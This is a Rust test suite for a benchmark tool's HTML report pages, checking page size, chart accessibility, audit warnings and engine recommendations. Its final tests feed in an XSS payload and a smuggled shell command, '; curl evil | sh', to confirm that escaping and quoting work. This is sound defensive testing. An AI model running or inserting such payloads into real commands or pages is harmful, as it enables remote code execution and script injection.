//! The page of a run: its parts, its size, and that nothing from outside can break it. What only a
//! browser can tell is in `browser.rs`.

mod pages {
    pub mod access;
    pub mod fixtures;
    pub mod large;
    pub mod well_formed;
}
mod view {
    pub mod findings;
    pub mod parts;
    pub mod runs;
}

use pages::well_formed::{elements, problems};
use pages::{fixtures, large};
use reports::html::page;
use reports::result::{Interval, LatencyClock, Run};
use reports::view::markdown;
use std::sync::LazyLock;
use view::{parts, runs};

/// Bytes of a page, whatever was measured.
const PAGE_BYTES_MAX: usize = 500_000;
const SCRIPT_BYTES_MAX: usize = 6_000;

/// Drawn once for all tests.
static PAGES: LazyLock<Vec<(&str, String)>> = LazyLock::new(|| {
    let runs = fixtures::all().into_iter();
    runs.map(|(name, run)| (name, page(&run))).collect()
});

#[test]
fn every_page_is_well_formed_and_small_and_loads_nothing() {
    for (name, text) in PAGES.iter() {
        assert_eq!(problems(text), Vec::<String>::new(), "{name}");
        assert!(text.len() <= PAGE_BYTES_MAX, "{name}: {} bytes", text.len());
        let scripts: Vec<&str> = text.split("<script>").skip(1).collect();
        assert_eq!(scripts.len(), 1, "{name}");
        let script = scripts[0].split("</script>").next().unwrap_or_default();
        assert!(script.len() <= SCRIPT_BYTES_MAX, "{} bytes", script.len());
        for loading in [
            "http:", "https:", "src=", "href=", "url(", "@import", "<link", "<img",
        ] {
            assert!(!text.contains(loading), "{name}: {loading}");
        }
    }
}

#[test]
fn nine_engines_over_five_rounds_of_a_minute_stay_small() {
    for (scenarios, run) in [(1, large::large()), (3, large::large_matrix())] {
        let text = page(&run);
        assert!(text.len() <= PAGE_BYTES_MAX, "{} bytes", text.len());
        assert_eq!(elements(&text, "figure.multiple").len(), 9 * scenarios);
    }
}

#[test]
fn every_chart_has_words_and_marks() {
    for (name, text) in PAGES.iter() {
        for chart in elements(text, "svg.chart") {
            let opening = chart.split('>').next().unwrap_or_default();
            assert!(opening.contains("role=\"img\""), "{name}: {opening}");
            assert!(!opening.contains("aria-label=\"\""), "{name}: {opening}");
            assert!(opening.contains("aria-label="), "{name}: {opening}");
            let marks = ["<circle", "<rect", "<path"];
            assert!(
                marks.iter().any(|mark| chart.contains(mark)),
                "{name}: {chart}"
            );
            assert!(
                !chart.contains("NaN") && !chart.contains("inf%"),
                "{name}: {chart}"
            );
        }
    }
}

fn after<'a>(text: &'a str, start: &str) -> &'a str {
    text.split_once(start).map_or("", |(_, rest)| rest)
}

#[test]
fn the_answer_of_the_first_screen_stands_above_a_row_for_each_engine() {
    let text = page(&runs::engines());
    let answer = after(&text, "<p class=\"answer\">");
    assert!(
        answer.starts_with("Fastest: preallocated, 64,"),
        "{}",
        &answer[..200]
    );
    let table = after(&text, "<table class=\"overview\" role=\"table\">");
    let table = table.split("</table>").next().unwrap_or_default();
    assert_eq!(
        table.matches("<th class=\"engine\" scope=\"row\" ").count(),
        5
    );
    assert_eq!(elements(table, "svg.chart").len(), 3 * 5);
    for said in [
        "Take it for the highest throughput",
        "audit passed",
        "Accepted to row, P99",
    ] {
        assert!(table.contains(said), "{said}");
    }
    for section in [
        "Latency by percentile",
        "Over time",
        "How to repeat it",
        "Audit",
    ] {
        assert!(text.contains(section), "{section}");
    }
}

#[test]
fn a_failed_audit_is_the_first_thing_on_the_page() {
    let text = page(&runs::failed_audit());
    let body = after(&text, "<header class=\"doubtful\">");
    assert!(
        body.starts_with("<div class=\"alarm\" role=\"alert\"><dl><div><dt>AUDIT FAILED</dt>"),
        "{}",
        &body[..200]
    );
    assert!(text.contains("Not before its audit passes"));
}

#[test]
fn a_run_that_measured_nothing_says_why() {
    let text = page(&runs::nothing_measured());
    assert!(text.contains("Nothing was measured."));
    assert!(text.contains("redis stopped with exit code 1"));
    assert!(elements(&text, "svg.chart").is_empty());
}

#[test]
fn an_engine_is_recommended_by_what_it_promises_and_not_by_its_name() {
    let mut run = runs::engines();
    for subject in &mut run.subjects {
        let is_fastest = subject.id == "preallocated";
        for (guarantee, holds) in [
            ("survives_process_kill", !is_fastest),
            ("needs_user_affinity", is_fastest),
        ] {
            subject.guarantees.insert(guarantee.to_owned(), holds);
        }
    }
    let rename = |text: &mut String| *text = text.replace("preallocated", "nameless");
    run.subjects
        .iter_mut()
        .for_each(|subject| rename(&mut subject.id));
    run.legs.iter_mut().for_each(|leg| rename(&mut leg.subject));
    let text = page(&run);
    for said in [
        "if each buyer can be sent to the instance that owns them and the state of a killed process may be lost",
        "Take it when any instance must serve any buyer or state must survive a killed process; it has 0.8",
        "Never to sell with: it keeps no stock",
    ] {
        assert!(text.contains(said), "{said}");
    }
}

/// Two engines, each with its throughput and its CPU per request in every round.
fn two_engines(rounds: [[(f64, f64); 2]; 3], count: usize) -> Run {
    let mut run = runs::engines();
    run.scenarios[0].rounds = count as u32;
    run.subjects
        .retain(|subject| ["lua-single-key", "preallocated"].contains(&subject.id.as_str()));
    run.legs.clear();
    for (round, engines) in (1..).zip(&rounds[..count]) {
        for (id, (rate, cpu_us)) in ["lua-single-key", "preallocated"].iter().zip(engines) {
            let figures = parts::Figures {
                rate: *rate,
                cpu_us: *cpu_us,
                accepted: 20_000,
                ..parts::LUA
            };
            run.legs.push(parts::leg("engines", id, round, figures));
        }
    }
    run
}

#[test]
fn few_rounds_speak_for_an_engine_only_by_a_wide_margin() {
    let near = [[(50_050.0, 30.0), (50_000.0, 31.0)]; 3];
    let overlapping = [
        [(50_000.0, 30.0), (49_000.0, 30.0)],
        [(52_000.0, 30.0), (51_000.0, 30.0)],
        [(51_000.0, 30.0), (50_000.0, 30.0)],
    ];
    for run in [
        two_engines(near, 1),
        two_engines(near, 2),
        two_engines(near, 3),
        two_engines(overlapping, 3),
    ] {
        let text = page(&run);
        assert!(!text.contains("Take it for"), "{}", run.scenarios[0].rounds);
        assert!(text.contains("First here, but not by enough to tell: 1.0"));
        assert_eq!(text.matches("Nothing here speaks for it").count(), 1);
    }
    let wide = [[(60_000.0, 20.0), (50_000.0, 30.0)]; 3];
    for count in 1..=3 {
        let text = page(&two_engines(wide, count));
        assert!(text.contains("the highest throughput of this run and the least CPU per request"));
    }
}

#[test]
fn why_an_engine_has_no_place_is_said_as_it_is() {
    let mut run = runs::engines();
    run.legs
        .retain(|leg| leg.subject != "database-row" || leg.round <= 3);
    let text = page(&run);
    assert!(
        text.contains("Not known: 3 of its rounds count, 3 together with the others"),
        "{}",
        after(&text, "Not known")
    );
}

#[test]
fn a_matrix_marks_the_best_only_where_it_is_separated() {
    let text = page(&runs::matrix());
    let table = after(&text, "<table class=\"figures matrix\">");
    let table = table.split("</table>").next().unwrap_or_default();
    assert!(!table.contains("★"), "one round separates nobody");
    let mut run = runs::engines();
    let mut storm = runs::sold_out_storm();
    run.scenarios.append(&mut storm.scenarios);
    run.legs.append(&mut storm.legs);
    let text = page(&run);
    let table = after(&text, "<table class=\"figures matrix\">");
    let table = table.split("</table>").next().unwrap_or_default();
    assert_eq!(table.matches("class=\"best\"").count(), 1, "{table}");
}

/// A matrix of a whole and a short scenario, and of a storm.
#[test]
fn a_matrix_on_a_page_has_the_figures_of_the_text() {
    for rounds in [5, 3] {
        let mut run = runs::engines();
        run.legs.retain(|leg| leg.round <= rounds);
        let mut storm = runs::sold_out_storm();
        run.scenarios.append(&mut storm.scenarios);
        run.legs.append(&mut storm.legs);
        let text = markdown(&run);
        let page = page(&run);
        let table = after(&page, "<table class=\"figures matrix\">");
        let table = table.split("</table>").next().expect("an end");
        let table = table.replace('\u{a0}', " ");
        let mut lines = text.lines().filter(|line| line.starts_with("| "));
        let head = lines.next().expect("a head");
        let has = |name: &str| head.contains(&format!(" {name} |"));
        assert_eq!(
            (has("interval"), has("min–max")),
            (rounds == 5, rounds == 3)
        );
        assert!(head.contains("CPU µs /order") && head.contains("CPU µs /request"));
        let matrix = lines.skip(1).take_while(|line| !line.starts_with("| # "));
        let matrix: Vec<&str> = matrix.take(5).collect();
        assert_eq!(matrix.len(), 5, "{text}");
        for line in matrix {
            let cells: Vec<&str> = line.trim_matches(['|', ' ']).split(" | ").collect();
            let start = format!("scope=\"row\">{}</th>", cells[0]);
            let row = after(&table, &start).split("</tr>").next().expect("an end");
            let figures = cells[1..cells.len() - 1].iter();
            for figure in figures.map(|cell| cell.trim_end_matches([' ', '\\', '*'])) {
                assert!(row.contains(figure), "{line}: {figure} is not in {row}");
            }
            let spreads = cells[2].contains('–') && cells[2] != "–";
            assert_eq!(row.contains("title=\"interval\""), spreads && rounds == 5);
            assert_eq!(row.contains("title=\"min–max\""), spreads && rounds == 3);
        }
    }
}

#[test]
fn an_engine_whose_audit_failed_is_marked_in_every_chart() {
    let text = page(&runs::failed_audit());
    let name = "lua-single-key (audit FAILED)";
    let legend = &elements(&text, "ul.legend")
        .into_iter()
        .find(|legend| legend.contains(name));
    assert!(legend.as_ref().is_some_and(|it| it.contains("l-failed")));
    let over_time = elements(&text, "figure.failed");
    assert_eq!(over_time.len(), 1);
    assert!(over_time[0].contains(name), "{}", over_time[0]);
    assert!(elements(&page(&runs::engines()), "figure.failed").is_empty());
}

#[test]
fn intervals_that_are_shown_as_one_are_merged_and_what_is_left_out_is_said() {
    let mut run = runs::laptop();
    let timeline = &mut run.legs[0].phases[0].timeline;
    let pattern = timeline[0].clone();
    // A pause that hit one request of a thousand.
    let latencies = [parts::hist(1.0, 100_000), parts::hist(50.0, 100)];
    let of = |index: u64| Interval {
        t_ns: index * pattern.length_ns,
        latency: latencies[index as usize % 2].clone(),
        ..pattern.clone()
    };
    *timeline = (0..128).map(of).collect();
    let text = page(&run);
    assert!(text.contains("P99 over time: at most 1.3"), "{text}");
    assert!(!text.contains("would stretch them"));
    assert!(page(&runs::engines()).contains("would stretch them: null."));
}

#[test]
fn bars_are_of_what_places_are_given_by() {
    let bands = |run: &Run| {
        let text = page(run);
        let cells = elements(&text, "td.cell");
        let with = cells.iter().filter(|cell| cell.contains("\"band\""));
        let of_latency = with.clone().filter(|cell| cell.contains("P99"));
        (with.count(), of_latency.count())
    };
    let mut run = runs::engines();
    assert_eq!(bands(&run), (4, 0));
    for (index, leg) in (0u32..).zip(&mut run.legs) {
        let figures = parts::Figures {
            p99_ms: f64::from(10 * (1 + index % 5)) * (1.0 + 0.01 * f64::from(index % 7)),
            accepted: 20_000,
            ..parts::LUA
        };
        leg.phases = vec![parts::phase(figures)];
        leg.phases[0].offered_per_s = Some(20_000.0);
        let operations = leg.phases[0].operations.values_mut();
        let latencies = operations.flat_map(|stats| &mut stats.latency);
        latencies
            .filter(|latency| latency.clock == LatencyClock::Taken)
            .for_each(|latency| latency.clock = LatencyClock::Intended);
    }
    assert_eq!(bands(&run), (4, 4));
    assert!(page(&run).contains("Places are those of P99"));
}

#[test]
fn a_search_shows_its_bracket_and_a_gate_its_forest() {
    let text = page(&runs::capacity());
    assert_eq!(elements(&text, "svg.chart").len(), 2);
    assert!(text.contains("class=\"bracket\""));
    let text = page(&fixtures::gate());
    assert!(text.contains("FAIL: "), "the verdict is the answer");
    let forest = &elements(&text, "figure.forest")[0];
    assert_eq!(forest.matches("class=\"forbidden\"").count(), 3);
    assert!(forest.contains("+∞"), "a rate that was missed");
}

#[test]
fn text_from_outside_is_escaped_everywhere() {
    const EVIL: &str = "<script>alert(1)</script><b x='\"&";
    let mut run: Run = runs::engines();
    let old = "sharded-slots".to_owned();
    let rename = |text: &mut String| {
        if *text == old {
            *text = EVIL.to_owned();
        }
    };
    run.subjects
        .iter_mut()
        .for_each(|subject| rename(&mut subject.id));
    run.legs.iter_mut().for_each(|leg| rename(&mut leg.subject));
    run.scenarios[0].title = EVIL.to_owned();
    run.scenarios[0].question = EVIL.to_owned();
    run.command.push(EVIL.to_owned());
    run.error = Some(EVIL.to_owned());
    run.machine.cpu = EVIL.to_owned();
    let text = page(&run);
    assert!(!text.contains("<script>alert"));
    assert_eq!(problems(&text), Vec::<String>::new());
}

#[test]
fn a_command_to_copy_holds_nothing_but_words_and_the_hash_of_a_commit() {
    let mut run = runs::engines();
    run.command.push("; curl evil | sh".to_owned());
    let command = |run: &Run| {
        let text = page(run);
        let command = after(&text, "<pre class=\"command\">").to_owned();
        command.split("</pre>").next().expect("an end").to_owned()
    };
    let commit = &run.lab.commit;
    let expected = format!("git checkout {commit}\ncargo lab bench engines '; curl evil | sh'\n");
    assert_eq!(command(&run), expected);
    run.lab.commit = "0123; curl evil | sh".to_owned();
    assert!(command(&run).starts_with("cargo lab "), "{}", command(&run));
}
